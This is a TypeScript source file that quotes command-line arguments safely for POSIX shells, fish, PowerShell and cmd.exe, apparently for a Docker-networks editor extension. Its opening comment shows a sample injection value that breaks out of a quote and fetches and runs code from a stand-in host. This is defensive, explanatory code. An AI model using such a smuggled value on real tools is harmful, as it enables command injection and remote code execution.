// A command line the user pastes into a terminal must run exactly the command it shows, whatever the engine's data
// holds: names, labels and options can come from an untrusted Compose file (`x'; iwr evil|iex; #`). Each shell has
// its own quoting, so the line is written for the shell it will be pasted into, and a value that shell cannot
// carry safely is refused with the reason instead of being written half-quoted.

export type ShellKind = 'posix' | 'fish' | 'powershell' | 'cmd';

export const SHELL_KINDS: readonly ShellKind[] = ['posix', 'fish', 'powershell', 'cmd'];

export const SHELL_NAMES: Readonly<Record<ShellKind, string>> = {
  posix: 'sh/bash/zsh',
  fish: 'fish',
  powershell: 'PowerShell',
  cmd: 'cmd.exe',
};

/** The kind of shell at a path such as VS Code's `env.shell`: /bin/bash, /usr/bin/fish, pwsh.exe, C:\Windows\System32\cmd.exe. */
export function shellKindOf(shellPath: string | undefined): ShellKind {
  const name =
    (shellPath ?? '')
      .trim()
      .split(/[\\/]/)
      .pop()
      ?.toLowerCase()
      .replace(/\.exe$/, '') ?? '';
  if (name === 'fish') return 'fish';
  if (name === 'pwsh' || name === 'pwsh-preview' || name === 'powershell') return 'powershell';
  if (name === 'cmd') return 'cmd';
  return 'posix';
}

export class UnquotableValueError extends Error {
  constructor(
    readonly value: string,
    readonly shell: ShellKind,
    reason: string,
  ) {
    super(
      `${JSON.stringify(value)} cannot be written safely for ${SHELL_NAMES[shell]}: ${reason}. Copy the line for another shell (setting dockerNetworks.cliShell), or change the value.`,
    );
  }
}

/** A command line, or why the shell cannot carry one of its values (then there is no line to copy). */
export type CliLine = { line: string; problem?: undefined } | { line?: undefined; problem: string };

/**
 * Words each shell takes literally, unquoted. Not `=` first (zsh expands `=ls` to a path); in PowerShell not `@`
 * (splatting) or `,` (array operator) at all, nor a leading `-` with anything but letters, digits and dashes
 * (Windows PowerShell splits `-a.b` into two arguments for programs).
 */
const PLAIN: Readonly<Record<ShellKind, RegExp>> = {
  posix: /^[A-Za-z0-9_./:@+,-][A-Za-z0-9_./:=@+,-]*$/,
  fish: /^[A-Za-z0-9_./:@+,-][A-Za-z0-9_./:=@+,-]*$/,
  powershell: /^([A-Za-z0-9_./:+][A-Za-z0-9_./:=+-]*|-+[A-Za-z0-9][A-Za-z0-9-]*)$/,
  cmd: /^[A-Za-z0-9_./:@+,-][A-Za-z0-9_./:=@+,-]*$/,
};
/**
 * Terminal control characters: pasted, they act as keys (Ctrl-C drops the quote typed so far, ESC [201~ ends a
 * bracketed paste) instead of arriving as text. Tab and line feed are left to each shell; CR becomes LF when typed.
 */
function controlCharacter(value: string): string | undefined {
  for (const char of value) {
    const code = char.charCodeAt(0);
    if ((code > 0 && code < 0x20 && code !== 0x09 && code !== 0x0a) || (code >= 0x7f && code <= 0x9f)) return char;
  }
  return undefined;
}
/** PowerShell also ends single-quoted strings at typographic single quotes. */
const POWERSHELL_QUOTES = /['\u2018\u2019\u201a\u201b]/g;

function quotePosix(value: string): string {
  return `'${value.replace(/'/g, `'\\''`)}'`;
}

function quoteFish(value: string): string {
  return `'${value.replace(/[\\']/g, match => `\\${match}`)}'`;
}

function quotePowerShell(value: string): string {
  // Windows PowerShell 5.1 passes native arguments without escaping embedded double quotes or a trailing backslash,
  // and drops an empty one.
  if (value === '') throw new UnquotableValueError(value, 'powershell', 'Windows PowerShell drops an empty argument to a program');
  if (/["\u201c\u201d\u201e]/.test(value))
    throw new UnquotableValueError(value, 'powershell', 'Windows PowerShell mangles double quotes in arguments to programs');
  if (/\\$/.test(value))
    throw new UnquotableValueError(
      value,
      'powershell',
      'a trailing backslash would escape the closing quote in the argument PowerShell passes on',
    );
  return `'${value.replace(POWERSHELL_QUOTES, match => match + match)}'`;
}

function quoteCmd(value: string): string {
  // Inside double quotes cmd takes & | < > ^ literally, but still expands %VAR% (and !VAR! with delayed expansion),
  // and a double quote or a line break cannot be carried at all.
  const bad = /["%!\r\n]/.exec(value);
  if (bad) throw new UnquotableValueError(value, 'cmd', `cmd.exe cannot carry ${JSON.stringify(bad[0])} in an argument`);
  // The program reads backslashes before a double quote as escapes (CommandLineToArgvW rules): double the trailing ones.
  return `"${value.replace(/(\\+)$/, '$1$1')}"`;
}

/** One argument as the shell must see it; throws UnquotableValueError when the shell cannot carry it. */
export function quoteArgument(value: string, shell: ShellKind): string {
  if (value.includes('\0')) throw new UnquotableValueError(value, shell, 'it contains a NUL character');
  const control = controlCharacter(value);
  if (control)
    throw new UnquotableValueError(
      value,
      shell,
      `it contains the control character U+${control.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}, which a terminal takes as a key, not as text`,
    );
  if (PLAIN[shell].test(value)) return value;
  switch (shell) {
    case 'posix':
      return quotePosix(value);
    case 'fish':
      return quoteFish(value);
    case 'powershell':
      return quotePowerShell(value);
    case 'cmd':
      return quoteCmd(value);
  }
}

/** The program and its arguments as one line for the shell; throws UnquotableValueError. */
export function commandLine(argv: readonly string[], shell: ShellKind = 'posix'): string {
  const words = argv.map(arg => quoteArgument(arg, shell));
  // A quoted first word is a string to PowerShell, not a command: the call operator runs it.
  if (shell === 'powershell' && words.length && words[0] !== argv[0]) words[0] = `& ${words[0]}`;
  return words.join(' ');
}

/** The line, or the refusal when the shell cannot carry one of the values. */
export function cliLine(argv: readonly string[], shell: ShellKind = 'posix'): CliLine {
  try {
    return { line: commandLine(argv, shell) };
  } catch (err) {
    if (err instanceof UnquotableValueError) return { problem: err.message };
    throw err;
  }
}
